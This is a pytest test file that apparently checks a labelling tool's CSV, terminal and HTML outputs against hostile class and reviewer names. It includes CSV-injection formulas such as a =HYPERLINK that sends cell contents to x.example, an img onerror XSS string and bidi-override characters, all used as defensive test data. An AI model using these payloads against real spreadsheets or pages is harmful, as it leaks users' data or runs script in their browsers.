"""The outputs as other programs open them, with hostile-but-legal names: class names, file names
and reviewer names that a spreadsheet reads as formulas, HTML, quotes, separators."""

from __future__ import annotations

import csv
from pathlib import Path

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from runfactory import csv_rows, make_run

from labeltrace._spreadsheet import formula_cells, spreadsheet_safe
from labeltrace.export import export_run
from labeltrace.export.cleaned import export_labels, unresolved_path
from labeltrace.relabel.runstore import run_store
from labeltrace.rundir import open_run, write_table

#: class names a spreadsheet runs as formulas (OWASP's CSV injection), beside one with HTML and quotes
HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"click")', "@SUM(A1)", '"><img src=x onerror=alert(1)>, b;c']
EVIL_REVIEWER = '=HYPERLINK("http://x.example","y")'


def test_spreadsheet_safe_prefixes_formula_cells_only() -> None:
    t = pa.table({"s": ["=1+1", "+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx", "-3", "+1.5e3", "plain", None],
                  "n": np.arange(10), "c": pa.array(["=x"] * 9 + ["y"]).dictionary_encode()})  # fmt: skip
    safe = spreadsheet_safe(t)
    assert safe.column("s").to_pylist() == ["'=1+1", "'+cmd", "'-2+3", "'@SUM(A1)", "'\tx", "'\rx", "-3", "+1.5e3",
                                            "plain", None]  # fmt: skip
    assert safe.column("n").to_pylist() == list(range(10))
    assert safe.column("c").to_pylist() == ["'=x"] * 9 + ["y"]
    assert formula_cells(t) == 6 + 9


@pytest.fixture()
def hostile_run(tmp_path: Path) -> Path:
    rd = make_run(tmp_path, n=18, k=3, classes=HOSTILE, seed=3)
    run = open_run(rd)
    given = run.column("given_label_id")
    run_store(run).add(0, HOSTILE[(int(given[0]) + 1) % 3], reviewer=EVIL_REVIEWER)
    run_store(run).add(int(np.flatnonzero(given == 0)[-1]), "unsure", reviewer=EVIL_REVIEWER)  # given HOSTILE[0]
    return rd


def test_the_csv_export_runs_no_formula_in_a_spreadsheet(hostile_run: Path, tmp_path: Path) -> None:
    """A class name, a file name or a reviewer's name (typed on the review page, by anyone with
    the token) beginning with '=' went into export.csv as it was: opened in Excel or LibreOffice,
    =HYPERLINK(...) ran as a formula. Such cells begin with ' now; the Parquet export keeps them."""
    with pytest.warns(UserWarning, match="a spreadsheet runs as a formula"):
        out = export_run(hostile_run, "csv", tmp_path / "export.csv")
    rows = csv_rows(out)
    cells = [v for r in rows for v in r.values()]
    assert not [v for v in cells if v[:1] in ("=", "+", "@", "\t", "\r") or v.startswith("-") and not _number(v)]
    (zero,) = [r for r in rows if r["id"] == "0"]
    assert zero["reviewer"] == "'" + EVIL_REVIEWER
    assert zero["given_label"] in ["'" + c if c[0] in "=@" else c for c in HOSTILE]
    exact = pq.read_table(export_run(hostile_run, "parquet", tmp_path / "export.parquet")).to_pylist()
    (zero,) = [r for r in exact if r["id"] == 0]
    assert zero["reviewer"] == EVIL_REVIEWER and zero["given_label"] in HOSTILE


def test_the_unresolved_list_is_safe_and_the_cleaned_labels_stay_exact(hostile_run: Path, tmp_path: Path) -> None:
    """The cleaned labels are read back by a scan: their class names stay as they are; the list
    of unresolved samples is for people and is spreadsheet-safe like the other tables."""
    out = export_labels(hostile_run, tmp_path / "clean.csv")
    with open(out, newline="", encoding="utf-8") as fh:
        labels = {r["label"] for r in csv.DictReader(fh)}
    assert labels <= set(HOSTILE) and labels & {HOSTILE[0], HOSTILE[1]}
    (row,) = csv_rows(unresolved_path(out))
    assert row["given_label"] == "'" + HOSTILE[0]


def test_write_table_csv_keeps_plain_values(tmp_path: Path) -> None:
    t = pa.table({"id": ["007", "NA", "-1"], "x": [1.5, float("nan"), -2.0]})
    write_table(tmp_path / "t.csv", t)
    with open(tmp_path / "t.csv", newline="", encoding="utf-8") as fh:
        assert [r["id"] for r in csv.DictReader(fh)] == ["007", "NA", "-1"]


def _number(v: str) -> bool:
    try:
        float(v)
    except ValueError:
        return False
    return True


def test_the_queue_and_score_printouts_keep_each_sample_on_its_row(tmp_path: Path,
                                                                   capsys: pytest.CaptureFixture[str]) -> None:  # fmt: skip
    """A class name with a newline (a folder may be named so) split the queue's printed row in two,
    and a U+202E in it turned the rest of the terminal line around; the scan's summary escaped
    both already (\\n, \\u202e), the queue and score printouts now do too."""
    from labeltrace.cli import main

    classes = ["new\nline", "\u202eevil", "plain"]
    rd = make_run(tmp_path, n=24, k=3, classes=classes, seed=1)
    for argv in (["queue", str(rd), "--out", str(tmp_path / "q.parquet"), "--top", "24"],
                 ["score", str(rd), "--method", "sei", "--top", "24"]):  # fmt: skip
        assert main(argv) == 0
        rows = [ln for ln in capsys.readouterr().out.splitlines() if " id " in ln]
        assert len(rows) == 24 and not any("\u202e" in ln for ln in rows), rows
    assert main(["queue", str(rd), "--out", str(tmp_path / "q.parquet"), "--top", "24"]) == 0
    assert "new\\nline" in capsys.readouterr().out


def test_the_reports_attributes_hold_no_markup_and_its_page_runs_nothing(tmp_path: Path) -> None:
    """A true label holding U+202E went into a title attribute as '<bdi>...</bdi>', shown as text in
    the tooltip; a report mailed around had no Content-Security-Policy (an audit's findings)."""
    import re

    from labeltrace.report import write_report

    rd = make_run(tmp_path, n=24, k=3, classes=["\u202eevil", "\u2069\u202edog", "plain"], seed=4, noise=0.3)
    page = write_report(rd, top=24, thumb_size=8).read_text(encoding="utf-8")
    titles = re.findall(r'title="([^"]*)"', page)
    assert any("true label: " in t for t in titles) and not any("<bdi>" in t or "&lt;bdi" in t for t in titles)
    assert not any(c in page for c in "\u202e\u2069")  # each control shown by its code point
    assert "⟨U+202E⟩evil" in page and "⟨U+2069⟩⟨U+202E⟩dog" in page
    assert ("<meta http-equiv='Content-Security-Policy' content=\"default-src 'none'; img-src data:; "
            "style-src 'unsafe-inline'\">") in page and "<script" not in page
